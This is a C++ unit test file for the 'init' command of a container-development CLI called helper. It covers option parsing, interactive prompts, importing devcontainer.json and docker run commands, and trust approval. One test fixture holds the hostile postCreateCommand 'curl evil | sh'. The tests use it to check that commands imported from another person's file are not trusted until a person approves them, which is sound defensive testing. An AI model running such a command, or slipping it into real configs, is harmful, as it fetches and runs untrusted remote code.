#include "cli/init.hpp"

#include "config/parse.hpp"
#include "unit/cli/desk.hpp"

#include <gtest/gtest.h>

#include <algorithm>

namespace helper::cli {
namespace {

using test::Desk;

config::Target only_target(Desk& desk) {
  const auto file = desk.files.files().at(desk.config_file());
  const auto config = config::parse_config(file.bytes, desk.config_file(), "/home/me");
  EXPECT_TRUE(config) << to_text(config.error());
  EXPECT_EQ(config->targets.size(), 1u);
  return config->targets.begin()->second;
}

TEST(Init, NeedsOnlyTheImageWithoutATerminal) {
  Desk desk;
  ASSERT_EQ(desk.run({"init", "--image", "centernet:1.2", "--target", "centernet"}).value_or(-1), 0);
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.name, "centernet");
  EXPECT_EQ(target.server, "local");
  EXPECT_EQ(target.container.image, "centernet:1.2");
  EXPECT_EQ(target.ssh.local_port, 2222);
  ASSERT_TRUE(target.jupyter);
  EXPECT_EQ(target.jupyter->local_port, 8888);
  EXPECT_NE(desk.out.str().find("helper ensure"), std::string::npos) << "it says what to type next";
}

TEST(Init, TakesEveryAnswerAsAnOption) {
  Desk desk;
  ASSERT_EQ(desk.run({"init",     "--image",         "i:1",
                      "--server", "ci@gpu1:2022",    "--name",
                      "box",      "--target",        "t",
                      "--remote", "/workspace/p",    "--local",
                      "src",      "--mount",         "/data/p:/workspace/p:ro",
                      "--python", "conda:CenterNet", "--ssh-port",
                      "2300",     "--jupyter-port",  "0"})
                .value_or(-1),
            0);
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.name, "t");
  EXPECT_EQ(target.server, "ci@gpu1:2022");
  EXPECT_EQ(target.container.name, "box");
  EXPECT_EQ(target.container.mounts, std::vector<std::string>{"/data/p:/workspace/p:ro"});
  EXPECT_EQ(target.project.remote, "/workspace/p");
  EXPECT_EQ(target.project.local, desk.folder.path() / "src");
  EXPECT_EQ(target.python, "conda:CenterNet");
  EXPECT_EQ(target.ssh.local_port, 2300);
  EXPECT_FALSE(target.jupyter);
}

TEST(Init, SaysWhichOptionIsMissingWhenThereIsNobodyToAsk) {
  Desk desk;
  const auto status = desk.run({"init"});
  ASSERT_FALSE(status);
  EXPECT_EQ(status.error().code, ErrorCode::usage);
  EXPECT_NE(status.error().cause.find("--image"), std::string::npos);
  EXPECT_TRUE(desk.files.files().empty());
}

TEST(Init, AsksInATerminalAndOffersDefaults) {
  Desk desk;
  desk.can_ask = true;
  for (const char* answer : {"gpu1", "", "centernet:1.2", "centernet", "/workspace/p", "/home/me/p", "", "4g", "", "0"})
    desk.person.will_answer(answer);
  ASSERT_EQ(desk.run({"init"}).value_or(-1), 0);
  const auto asked = desk.person.asked();
  ASSERT_EQ(asked.size(), 10u);
  EXPECT_EQ(asked[1].prompt, "Image");
  EXPECT_EQ(asked[2].prompt, "Image") << "without an image there is no container: it asks again";
  EXPECT_EQ(asked[3].prompt, "Container name [" + name_from_folder(desk.folder.path().filename().string()) + "]");
  EXPECT_EQ(asked[7].prompt, "Shared memory, for data loaders [8g]");
  EXPECT_TRUE(asked[8].prompt.starts_with("Local port for SSH [2")) << asked[8].prompt;
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.name, "centernet");
  EXPECT_EQ(target.server, "gpu1");
  EXPECT_EQ(target.container.mounts, std::vector<std::string>{"/home/me/p:/workspace/p"});
  EXPECT_EQ(target.container.gpus, "all");
  EXPECT_EQ(target.container.shm_size, "4g");
  EXPECT_GE(target.ssh.local_port, 2222);
  EXPECT_FALSE(target.jupyter);
}

TEST(Init, AWrongAnswerIsAskedAgainWithTheReasonAndTheOthersStay) {
  Desk desk;
  desk.can_ask = true;
  for (const char* answer : {"gpu1", "-v", "centernet:1.2", "a b", "box", "work", "/work", "data/set", "/data/set",
                             "all", "much", "2g", "2300", "0"})
    desk.person.will_answer(answer);
  const auto status = desk.run({"init"});
  ASSERT_TRUE(status) << to_text(status.error());
  const auto asked = desk.person.asked();
  ASSERT_EQ(asked.size(), 14U);
  for (const std::size_t again : {2U, 4U, 6U, 8U, 11U}) {
    EXPECT_EQ(asked[again].prompt, asked[again - 1].prompt);
    EXPECT_FALSE(asked[again].details.empty()) << asked[again].prompt;
  }
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.server, "gpu1");
  EXPECT_EQ(target.container.name, "box");
  EXPECT_EQ(target.container.mounts, std::vector<std::string>{"/data/set:/work"});
  EXPECT_EQ(target.container.shm_size, "2g");
}

TEST(Init, ASecondTargetIsAddedAndTheFirstKeepsEveryByte) {
  Desk desk;
  ASSERT_EQ(desk.run({"init", "--image", "i:1", "--target", "first"}).value_or(-1), 0);
  const std::string before = desk.files.files().at(desk.config_file()).bytes;
  const auto status = desk.run({"init", "--image", "j:2", "--target", "second"});
  ASSERT_TRUE(status) << to_text(status.error());
  const std::string after = desk.files.files().at(desk.config_file()).bytes;
  EXPECT_NE(after.find(before.substr(before.find("\"first\""))), std::string::npos);
  const auto config = config::parse_config(after, desk.config_file(), "/home/me");
  ASSERT_TRUE(config) << to_text(config.error());
  EXPECT_EQ(config->targets.at("second").container.image, "j:2");
  EXPECT_NE(config->targets.at("second").ssh.local_port, config->targets.at("first").ssh.local_port);
  const auto twice = desk.run({"init", "--image", "j:2", "--target", "second"});
  ASSERT_FALSE(twice);
  EXPECT_EQ(twice.error().cause, "it has a target second already");
}

TEST(Init, TheProjectIsWhereTheOneMountIs) {
  Desk desk;
  ASSERT_EQ(desk.run({"init", "--image", "i:1", "--mount", "/data/p:/work/p:ro"}).value_or(-1), 0);
  EXPECT_EQ(only_target(desk).project.remote, "/work/p");
}

TEST(HostsIn, AreTheNamesOfHostLinesWithoutPatterns) {
  EXPECT_EQ(
      hosts_in("Host gpu1 gpu2 # no\n  HostName x\nhost=gpu3\r\nHost *\nHost !a *.b gpu1\n# Host c\nMatch host d\n"),
      (std::vector<std::string>{"gpu1", "gpu2", "gpu3"}));
}

TEST(Init, MountsThisFolderWhenTheServerIsThisMachine) {
  Desk desk;
  desk.can_ask = true;
  for (const char* answer : {"", "i:1", "", "/workspace/p", "", "", "", "", ""}) desk.person.will_answer(answer);
  ASSERT_EQ(desk.run({"init"}).value_or(-1), 0);
  EXPECT_EQ(only_target(desk).container.mounts,
            std::vector<std::string>{desk.folder.path().string() + ":/workspace/p"});
}

TEST(Init, AsksAgainForAPortThatIsNone) {
  Desk desk;
  desk.can_ask = true;
  for (const char* answer : {"", "", "70000", "ssh", "2300"}) desk.person.will_answer(answer);
  const auto status = desk.run({"init", "--server", "local", "--image", "i", "--name", "box", "--remote", "/w",
                                "--mount", "/a:/b", "--jupyter-port", "1"});
  ASSERT_TRUE(status) << to_text(status.error());
  EXPECT_EQ(desk.person.asked().size(), 5u);
  EXPECT_EQ(only_target(desk).ssh.local_port, 2300);
}

TEST(Init, NeverReplacesAFileUnlessForced) {
  Desk desk;
  ASSERT_TRUE(desk.files.write(desk.config_file(), "mine", 0644));
  const auto refused = desk.run({"init", "--image", "i"});
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().code, ErrorCode::usage);
  EXPECT_EQ(desk.files.files().at(desk.config_file()).bytes, "mine");
  EXPECT_EQ(desk.run({"init", "--image", "i", "--force"}).value_or(-1), 0);
  EXPECT_NE(desk.files.files().at(desk.config_file()).bytes, "mine");
}

TEST(Init, WritesWhereConfigSays) {
  Desk desk;
  ASSERT_EQ(desk.run({"init", "--image", "i", "--config", "sub/other.json", "--json"}).value_or(-1), 0);
  const auto file = desk.folder.path() / "sub/other.json";
  EXPECT_TRUE(desk.files.files().contains(file));
  EXPECT_EQ(rpc::Json::parse(desk.out.str()).at("file"), file.string());
}

TEST(Init, WritesNothingWhenAnAnswerIsWrong) {
  for (const std::vector<std::string>& wrong : {std::vector<std::string>{"--image", "-v"},
                                                {"--image", "i", "--name", "a b"},
                                                {"--image", "i", "--remote", "relative"}}) {
    Desk desk;
    std::vector<std::string> words{"init"};
    words.insert(words.end(), wrong.begin(), wrong.end());
    const auto status = desk.run(words);
    ASSERT_FALSE(status) << wrong.back();
    EXPECT_EQ(status.error().code, ErrorCode::usage) << wrong.back();
    EXPECT_TRUE(desk.files.files().empty()) << wrong.back();
  }
}

TEST(Init, TellsWhenTheDiskIsFull) {
  Desk desk;
  desk.files.set_full(true);
  const auto status = desk.run({"init", "--image", "i"});
  ASSERT_FALSE(status);
  EXPECT_EQ(status.error().code, ErrorCode::file_failed);
}

TEST(NameFromFolder, IsANameThatAContainerMayHave) {
  EXPECT_EQ(name_from_folder("CenterNet"), "CenterNet");
  EXPECT_EQ(name_from_folder("my project (2)"), "my-project-2");
  EXPECT_EQ(name_from_folder("..hidden"), "hidden");
  EXPECT_EQ(name_from_folder("größe"), "gr-e");
  EXPECT_EQ(name_from_folder("数据").rfind("target-", 0), 0U);
  EXPECT_EQ(name_from_folder("数据").size(), std::string("target-0123").size());
  EXPECT_NE(name_from_folder("数据"), name_from_folder("プロジェクト"));
  EXPECT_EQ(name_from_folder(""), "target");
  EXPECT_EQ(name_from_folder("x"), "target-x") << "one character is too short for the engine";
}

TEST(Init, TakesTheValuesOfADevcontainerOver) {
  Desk desk;
  const auto file = desk.folder.path() / ".devcontainer.json";
  ASSERT_TRUE(desk.files.write(file, R"({
    "build": {"dockerfile": "Dockerfile", "args": {"A": "b"}}, "remoteUser": "dev", "forwardPorts": [6006, 8888],
    "containerEnv": {"A": "b", "T": "${localEnv:HELPER_TEST_TOKEN}"}, "mounts": ["source=v,target=/v,type=volume"],
    "features": {}, "postCreateCommand": "make",})",
                               0644));
  ASSERT_EQ(desk.run({"init", "--server", "gpu1", "--from", ".devcontainer.json", "--target", "t1", "--mount",
                      "/home/me/p:/workspaces", "--json"})
                .value_or(-1),
            0);
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.server, "gpu1");
  ASSERT_TRUE(target.container.build);
  EXPECT_EQ(target.container.build->context, desk.folder.path());
  EXPECT_EQ(target.container.mounts, (std::vector<std::string>{"/home/me/p:/workspaces", "v:/v"}));
  EXPECT_EQ(target.container.env, (std::map<std::string, std::string>{{"A", "b"}}));
  EXPECT_EQ(target.ssh.user, "dev");
  EXPECT_EQ(target.project.local, desk.folder.path());
  EXPECT_EQ(target.forwards, (std::vector<config::PortPair>{{6006, 6006}}));
  EXPECT_EQ(target.post_create, std::vector<std::string>{"make"});
  const auto notes = rpc::Json::parse(desk.out.str()).at("notes");
  ASSERT_EQ(notes.size(), 3u) << notes;  // the value, the features, and the probe for the command
  const std::string text = desk.files.files().at(desk.config_file()).bytes;
  EXPECT_NE(text.find("// .devcontainer.json:4: features: helper installs none"), std::string::npos) << text;
  EXPECT_NE(text.find("\"context\": \".\""), std::string::npos) << text;
}

// As `plan` does, whatever the reason.
TEST(Init, SaysWhyADevcontainerHasNoImage) {
  const std::map<std::string, std::string> reasons{
      {R"({"dockerComposeFile": "compose.yml", "service": "app"})", "dockerComposeFile: helper runs one container"},
      {R"({"image": "${localEnv:IMG}"})", "image: IMG is not set on this machine, so this is empty"},
      {R"({"build": {"dockerfile": "../Dockerfile", "context": "."}})",
       "build.dockerfile: it is outside of its context"},
      {R"({"dockerfile": "Dockerfile"})", R"(dockerfile: helper does not know this key; did you mean "dockerFile"?)"},
      {R"({"imagee": "i:1"})", R"(did you mean "image"?)"},
      {R"({"name": "x"})", ".devcontainer.json names no image"},
      {R"({"image": 5})", "is the number 5"}};
  for (const auto& [text, reason] : reasons) {
    Desk desk;
    ASSERT_TRUE(desk.files.write(desk.folder.path() / ".devcontainer.json", text, 0644));
    const std::vector<std::string> words{"init", "--server", "gpu1", "--from", ".devcontainer.json"};
    const auto status = desk.run(words);
    ASSERT_FALSE(status) << text;
    EXPECT_NE(status.error().cause.find(reason), std::string::npos) << status.error().cause;
    auto with_image = words;
    with_image.insert(with_image.end(), {"--image", "mine:1"});
    EXPECT_EQ(desk.run(with_image).value_or(-1), 0) << text;
    EXPECT_EQ(only_target(desk).container.image, "mine:1");
  }
}

// The devcontainer.json of somebody else, and answers to all that init would ask.
std::vector<std::string> from_a_stranger(Desk& desk, std::vector<std::string> more) {
  EXPECT_TRUE(desk.files.write(desk.folder.path() / ".devcontainer.json",
                               R"({"image": "i:1", "postCreateCommand": "curl evil | sh"})", 0644));
  std::vector<std::string> words{"init",     "--server",   "gpu1",           "--from", ".devcontainer.json",
                                 "--target", "t1",         "--remote",       "/w",     "--mount",
                                 "/a:/w",    "--ssh-port", "2300",           "--name", "box",
                                 "--image",  "i:1",        "--jupyter-port", "0"};
  words.insert(words.end(), more.begin(), more.end());
  return words;
}
bool is_approved(const Desk& desk) {
  const auto all = desk.files.files();
  const auto at = all.find(desk.folder.path() / "data" / "trust.json");
  return at != all.end() && at->second.bytes.find("helper.json") != std::string::npos;
}

TEST(Init, WhatItTakesOverUnseenIsNotApproved) {
  Desk desk;
  ASSERT_EQ(desk.run(from_a_stranger(desk, {"--json"})).value_or(-1), 0);
  EXPECT_FALSE(is_approved(desk));
  EXPECT_FALSE(rpc::Json::parse(desk.out.str()).at("trusted").get<bool>());
  Desk quiet;
  ASSERT_EQ(quiet.run(from_a_stranger(quiet, {"--quiet"})).value_or(-1), 0);
  EXPECT_FALSE(is_approved(quiet));
  Desk script;
  ASSERT_EQ(script.run(from_a_stranger(script, {})).value_or(-1), 0);
  EXPECT_FALSE(is_approved(script));
  EXPECT_NE(script.out.str().find("helper trust " + script.config_file().string()), std::string::npos);
  Desk own;
  ASSERT_EQ(own.run({"init", "--image", "i:1", "--json"}).value_or(-1), 0);
  EXPECT_TRUE(rpc::Json::parse(own.out.str()).at("trusted").get<bool>()) << "these are the person's own answers";
}

TEST(Init, WhatItTakesOverIsApprovedByAYesToWhatIsShown) {
  for (const std::string answer : {"yes", "no"}) {
    Desk desk;
    desk.can_ask = true;
    desk.person.will_answer(answer);
    const auto status = desk.run(from_a_stranger(desk, {}));
    ASSERT_TRUE(status) << to_text(status.error());
    ASSERT_EQ(desk.person.asked().size(), 1U);
    const auto details = desk.person.asked().front().details;
    EXPECT_NE(std::ranges::find(details, "  t1: runs once in the container: curl evil | sh"), details.end());
    EXPECT_EQ(is_approved(desk), answer == "yes");
  }
}

TEST(Init, FromAFileThatIsNotThereOrIsWrongWritesNothing) {
  Desk desk;
  EXPECT_EQ(desk.run({"init", "--from", "none.json"}).error().code, ErrorCode::config_unreadable);
  ASSERT_TRUE(desk.files.write(desk.folder.path() / "d.json", R"({"image": 5})", 0644));
  EXPECT_EQ(desk.run({"init", "--from", "d.json"}).error().thing, "d.json:1: image");
  EXPECT_FALSE(desk.files.files().contains(desk.config_file()));
}

TEST(Init, TakesADockerRunCommandOver) {
  Desk desk;
  const auto status = desk.run({"init", "--from",
                                "docker run -it --rm --gpus all --shm-size 8g --name box -p 2222:80 -v $(pwd):/work "
                                "-e HF_TOKEN=hf_secret -e A=b my/dev:1 bash"});
  ASSERT_TRUE(status) << to_text(status.error());
  const config::Target target = only_target(desk);
  EXPECT_EQ(target.name, "box");
  EXPECT_EQ(target.container.name, "box");
  EXPECT_EQ(target.container.image, "my/dev:1");
  EXPECT_EQ(target.container.mounts, std::vector<std::string>{desk.folder.path().string() + ":/work"});
  EXPECT_EQ(target.project.remote, "/work");
  EXPECT_EQ(target.project.local, desk.folder.path());
  EXPECT_EQ(target.forwards, (std::vector<config::PortPair>{{2222, 80}}));
  EXPECT_EQ(target.ssh.local_port, 2223) << "2222 is the container's";
  EXPECT_EQ(target.container.env, (std::map<std::string, std::string>{{"A", "b"}}));
  const std::string out = desk.out.str();
  EXPECT_NE(out.find("  container.shm_size: 8g\n"), std::string::npos) << out;
  EXPECT_NE(out.find("--rm: the container outlives its stop"), std::string::npos) << out;
  EXPECT_NE(out.find("local port 2222 is one of the container's own ports, so SSH has 2223"), std::string::npos) << out;
  EXPECT_NE(out.find("-e HF_TOKEN: its value looks like a secret"), std::string::npos) << out;
  EXPECT_EQ((out + desk.files.files().at(desk.config_file()).bytes).find("hf_secret"), std::string::npos);
  EXPECT_FALSE(is_approved(desk)) << "it is somebody else's text";
}

TEST(Init, AsksForWhatOnlyAShellOnTheServerKnows) {
  const std::vector<std::string> words{
      "init",       "--server", "gpu1",
      "--ssh-port", "2300",     "--jupyter-port",
      "0",          "--from",   "docker run --gpus all --name box -v $(pwd):/work -v ~/d:/d i:1"};
  Desk script;
  const auto refused = script.run(words);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().cause,
            "a shell on gpu1 would put values in place of $(pwd), ~, and helper does not know them");
  EXPECT_TRUE(script.files.files().empty());
  Desk desk;
  desk.can_ask = true;
  for (const char* answer : {"/home/bob/p", "/home/bob", "no"}) desk.person.will_answer(answer);
  const auto status = desk.run(words);
  ASSERT_TRUE(status) << to_text(status.error());
  EXPECT_EQ(desk.person.asked().front().prompt, "Value of $(pwd) on gpu1");
  EXPECT_EQ(only_target(desk).container.mounts, (std::vector<std::string>{"/home/bob/p:/work", "/home/bob/d:/d"}));
}

TEST(Init, DescribesAContainerThatIsThere) {
  Desk desk;
  const auto status = desk.run({"init", "--server", "me@gpu1:2200", "--from-container", "box"});
  ASSERT_FALSE(status) << "nobody answers";
  ASSERT_EQ(desk.ran.size(), 1u);
  EXPECT_EQ(desk.ran[0].argv[2], "ssh -o 'BatchMode=yes' -o 'ConnectTimeout=10' -p 2200 me@gpu1 sh");
  EXPECT_NE(desk.ran[0].stdin_text.find("container=box"), std::string::npos);
  desk.outputs.push_back({.exit_status = 255, .out = "", .err = "me@gpu1: Permission denied (publickey)."});
  const auto denied = desk.run({"init", "--server", "gpu1", "--from-container", "box"});
  ASSERT_FALSE(denied);
  EXPECT_EQ(denied.error().code, ErrorCode::server_unreachable);
  EXPECT_FALSE(desk.run({"init", "--from", ".", "--from-container", "box"}));
  EXPECT_FALSE(desk.run({"init", "--from-container", "-v"}));
  EXPECT_TRUE(desk.files.files().empty());
}

}  // namespace
}  // namespace helper::cli
